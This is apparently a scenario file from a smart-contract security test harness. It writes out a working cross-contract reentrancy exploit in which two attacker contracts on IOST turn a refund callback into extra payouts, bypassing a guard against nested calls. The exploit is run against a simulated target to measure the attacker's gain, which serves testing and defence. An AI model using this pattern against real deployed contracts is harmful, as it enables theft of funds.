import type { Attack } from '../scene.js'

const SECOND = `class Second {
  init() {}
  onRefund(account, amount) {}
}
module.exports = Second;`

/** Calls the faulty contract again, with another receiver: a contract's method is not entered twice. */
const FIRST = `class First {
  init() {}
  aim(subject, second) { storage.put('subject', subject); storage.put('second', second); }
  onRefund(account, amount) { blockchain.call(storage.get('subject'), 'refund', [storage.get('second')]); }
}
module.exports = First;`

export const attack: Attack = {
  harm: 'more',
  async prepare(scene) {
    await scene.use('alice', 'owe', 'bobby', '30')
    await scene.use('alice', 'owe', 'carol', '20')
    await scene.use('carol', 'refund', '')
    await scene.use('alice', 'owe', 'julia', '10')
  },
  // What the attacker has, and what it is still owed.
  measure: async (scene) => (await scene.balance('iost', 'julia')) + Number(await scene.read('owed', 'julia')),
  async run(scene) {
    await scene.deploy('julia', 'second', SECOND, { onRefund: { args: ['string', 'string'] } })
    await scene.deploy('julia', 'first', FIRST, {
      aim: { args: ['string', 'string'] },
      onRefund: { args: ['string', 'string'] },
    })
    await scene.attack('$first/aim', '$subject', '$second')
    await scene.attack('refund', '$first')
  },
}
